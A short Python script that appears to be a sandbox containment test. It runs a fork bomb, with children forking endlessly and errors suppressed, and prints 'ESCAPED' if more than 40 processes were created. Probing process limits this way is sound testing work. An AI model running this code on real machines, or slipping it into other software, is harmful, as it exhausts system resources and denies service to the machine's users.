"""Processes that make processes."""

# ends: ok
import contextlib
import os

made = 0
for _ in range(2000):
    try:
        child = os.fork()
    except OSError:
        continue
    if child == 0:
        while True:
            with contextlib.suppress(OSError):
                os.fork()
    made += 1
if made > 40:
    print("ESCAPED", made)
